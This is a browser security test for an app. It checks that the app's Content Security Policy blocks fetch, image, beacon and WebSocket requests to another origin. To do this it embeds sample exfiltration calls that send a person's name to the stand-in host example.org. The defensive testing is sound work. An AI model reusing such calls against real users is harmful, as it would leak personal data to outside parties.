import { expect, test } from './harness';

test('air gap: the renderer cannot load from or send to another origin — CSP stops fetch, images, beacons and sockets before the network', async ({ app }) => {
  const { page } = app;
  await app.openUnlocked({ demo: true });
  await expect(page.getByRole('list', { name: 'Needs your attention' })).toBeVisible();
  const attempt = await page.evaluate(async () => {
    const violations: string[] = [];
    document.addEventListener('securitypolicyviolation', (e) => violations.push(`${e.effectiveDirective} ${e.blockedURI}`));
    const fetched = await fetch('https://example.org/exfiltrate?name=Grace').then(
      () => 'sent',
      () => 'blocked',
    );
    const image = new Image();
    image.src = 'https://example.org/pixel.png';
    document.body.append(image);
    navigator.sendBeacon('https://example.org/beacon', 'Grace Mensah');
    try {
      const socket = new WebSocket('wss://example.org/socket');
      socket.addEventListener('error', () => socket.close());
    } catch {
      // Refused outright in some versions; the violation below is what counts.
    }
    await new Promise((resolve) => setTimeout(resolve, 500));
    return { fetched, violations };
  });
  expect(attempt.fetched).toBe('blocked');
  // sendBeacon only queues; the policy refuses the request itself (a connect-src violation).
  expect(attempt.violations).toEqual(expect.arrayContaining([expect.stringMatching(/^connect-src https:\/\/example\.org\/exfiltrate/), expect.stringMatching(/^img-src https:\/\/example\.org\/pixel\.png/), expect.stringMatching(/^connect-src https:\/\/example\.org\/beacon/), expect.stringMatching(/^connect-src wss:\/\/example\.org\/socket/)]));
  // Nothing even reached the network layer: the policy refused it first.
  expect(app.blockedRequests).toEqual([]);
});
